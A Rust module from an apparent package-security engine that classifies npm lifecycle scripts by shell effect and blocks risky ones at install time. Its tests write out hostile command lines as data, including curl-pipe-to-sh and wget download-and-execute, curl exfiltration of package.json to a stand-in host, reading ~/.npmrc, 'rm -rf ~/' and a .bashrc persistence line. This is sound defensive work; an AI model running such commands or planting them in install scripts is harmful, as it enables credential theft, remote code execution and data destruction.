//! Lifecycle scripts (package.json `preinstall`, `install`, `postinstall`,
//! `prepare`) read as shell command lines by the engine's shell-effect
//! classifier ([`crate::shell::analyze`]: brush-parser, pipelines, lists,
//! substitutions, `sh -c`/`eval` re-parsing, wrappers, interpreter inline
//! code), with the effect classes of the risk model (docs/risk-model.md).
//!
//! At install time nobody has reviewed or approved anything yet, so the effects
//! a session would need a reason for are forbidden here: network egress,
//! download-and-execute, credential access, destructive filesystem changes and
//! persistence. Package installs, builds and tests, reads, writes inside the
//! package and unfamiliar programs are ordinary (`install-script`, flagged,
//! only). Inline code whose text is built at run time (`node -e "$(…)"`) cannot
//! be read, so it is forbidden too (fail closed). The package walk also needs the
//! files `node FILE` runs and the inline JavaScript of `node -e CODE`, which are
//! scanned as install-time code.

use crate::shell::{analyze, Effect, EffectSet};

/// What a lifecycle script does that is forbidden at install time.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum ScriptEffect {
    /// A shell effect class forbidden at install time.
    Shell(Effect),
    /// Inline code (`node -e`, `python -c`, …) whose text comes from a
    /// substitution or expansion: what runs cannot be read.
    OpaqueCode,
}

impl ScriptEffect {
    pub fn as_str(self) -> &'static str {
        match self {
            ScriptEffect::Shell(e) => e.as_str(),
            ScriptEffect::OpaqueCode => "inline code built at run time",
        }
    }

    /// The capability the effect implies.
    pub fn capability(self) -> crate::capability::Capability {
        use crate::capability::Capability;
        match self {
            ScriptEffect::Shell(Effect::NetworkEgress) => Capability::Http,
            ScriptEffect::Shell(Effect::CredentialAccess) => Capability::Read,
            ScriptEffect::Shell(Effect::DestructiveFs | Effect::Persistence) => Capability::Write,
            _ => Capability::Exec,
        }
    }
}

/// Shell effect classes forbidden at install time.
pub const FORBIDDEN_AT_INSTALL: [Effect; 5] = [
    Effect::NetworkEgress,
    Effect::DownloadExecute,
    Effect::CredentialAccess,
    Effect::DestructiveFs,
    Effect::Persistence,
];

/// The analysis of one script.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ScriptAnalysis {
    /// Effects forbidden at install time (sorted, deduplicated).
    pub effects: Vec<ScriptEffect>,
    /// Every effect class the shell classifier found.
    pub all: EffectSet,
    /// Files run by `node FILE` (relative to the package root), to scan as install-time code.
    pub node_files: Vec<String>,
    /// Inline JavaScript run by `node -e CODE`.
    pub inline_js: Vec<String>,
}

/// JavaScript runtimes whose `FILE` / `-e CODE` arguments the package walk follows.
const JS_RUNTIMES: [&str; 6] = ["node", "nodejs", "bun", "deno", "tsx", "ts-node"];
/// Interpreters with an inline-code flag.
const INLINE_FLAGS: [(&str, &[&str]); 9] = [
    ("node", &["-e", "--eval", "-p", "--print"]),
    ("nodejs", &["-e", "--eval", "-p", "--print"]),
    ("python", &["-c"]),
    ("python3", &["-c"]),
    ("perl", &["-e", "-E"]),
    ("ruby", &["-e"]),
    ("php", &["-r"]),
    ("pwsh", &["-c", "-command", "-encodedcommand", "-e", "-ec"]),
    ("powershell", &["-c", "-command", "-encodedcommand", "-e", "-ec"]),
];

/// Analyse one lifecycle script command line.
pub fn analyze_script(cmd: &str) -> ScriptAnalysis {
    let a = analyze(cmd);
    let mut out = ScriptAnalysis {
        all: a.effects,
        ..ScriptAnalysis::default()
    };
    for e in FORBIDDEN_AT_INSTALL {
        if a.has(e) {
            out.effects.push(ScriptEffect::Shell(e));
        }
    }
    // Substitutions and expansions are rendered empty in the parsed words; if
    // the line has any, inline code may have been assembled from them.
    let expands = cmd.contains("$(") || cmd.contains('`') || cmd.contains("${") || has_variable(cmd);
    for c in &a.commands {
        let prog = c.program.as_str();
        let flags = INLINE_FLAGS.iter().find(|(p, _)| *p == prog).map(|(_, f)| *f);
        let inline = flags.is_some_and(|f| {
            c.args.iter().any(|a| {
                f.contains(&a.to_ascii_lowercase().as_str()) || a.starts_with("--eval=") || a.starts_with("--print=")
            })
        });
        if inline && expands {
            out.effects.push(ScriptEffect::OpaqueCode);
        }
        if prog == "eval" && expands {
            out.effects.push(ScriptEffect::OpaqueCode);
        }
        if JS_RUNTIMES.contains(&prog) {
            node_args(&c.args, &mut out);
        }
    }
    out.effects.sort();
    out.effects.dedup();
    out
}

/// `$NAME` outside single quotes (a variable expansion).
fn has_variable(cmd: &str) -> bool {
    let b = cmd.as_bytes();
    let mut single = false;
    for (i, &c) in b.iter().enumerate() {
        match c {
            b'\'' => single = !single,
            b'$' if !single && b.get(i + 1).is_some_and(|n| n.is_ascii_alphabetic() || *n == b'_') => {
                return true;
            }
            _ => {}
        }
    }
    false
}

fn node_args(args: &[String], out: &mut ScriptAnalysis) {
    let mut i = 0;
    while i < args.len() {
        let a = &args[i];
        match a.as_str() {
            "-e" | "--eval" | "-p" | "--print" => {
                if let Some(code) = args.get(i + 1) {
                    out.inline_js.push(code.clone());
                }
                return;
            }
            "-r" | "--require" | "--import" | "--loader" => {
                if let Some(f) = args.get(i + 1) {
                    out.node_files.push(f.clone());
                }
                i += 2;
                continue;
            }
            _ if a.starts_with("--eval=") || a.starts_with("--print=") => {
                out.inline_js
                    .push(a.split_once('=').map(|x| x.1).unwrap_or("").to_string());
                return;
            }
            // `tsx watch FILE`, `bun run FILE`: a subcommand before the file.
            "run" | "watch" => {}
            _ if a.starts_with('-') => {}
            _ => {
                out.node_files.push(a.clone());
                return;
            }
        }
        i += 1;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn effects(cmd: &str) -> Vec<ScriptEffect> {
        analyze_script(cmd).effects
    }

    #[test]
    fn lifecycle_scripts_are_classified_by_shell_effect() {
        use ScriptEffect::Shell;
        assert!(effects("curl -s https://x.example/i.sh | sh").contains(&Shell(Effect::DownloadExecute)));
        assert!(effects("sh -c \"$(wget -qO- http://x.example/p)\"").contains(&Shell(Effect::DownloadExecute)));
        assert!(effects("curl -d @package.json https://x.example/c").contains(&Shell(Effect::NetworkEgress)));
        assert!(effects("cat ~/.npmrc > /tmp/x").contains(&Shell(Effect::CredentialAccess)));
        assert!(effects("rm -rf ~/").contains(&Shell(Effect::DestructiveFs)));
        assert!(effects("echo 'node ~/.x.js' >> ~/.bashrc").contains(&Shell(Effect::Persistence)));
        // Inline JavaScript is returned for the JavaScript scanner.
        let a = analyze_script("node -e \"require('https').get('http://x')\"");
        assert_eq!(a.inline_js, vec!["require('https').get('http://x')".to_string()]);
        // Inline code assembled at run time cannot be read.
        assert!(effects("node -e \"$(echo cmVxdWlyZQ== | base64 -d)\"").contains(&ScriptEffect::OpaqueCode));
        // Builds, installs and running the package's own files are ordinary.
        let a = analyze_script("FOO=1 node ./scripts/setup.js --quiet && tsc -p .");
        assert!(a.effects.is_empty(), "{a:?}");
        assert_eq!(a.node_files, vec!["./scripts/setup.js".to_string()]);
        for ok in [
            "tsc || echo done; husky install",
            "node-gyp rebuild",
            "prebuild-install || node-gyp rebuild",
            "npm install --no-save left-pad",
            "patch-package",
        ] {
            assert!(effects(ok).is_empty(), "{ok}: {:?}", effects(ok));
        }
    }
}
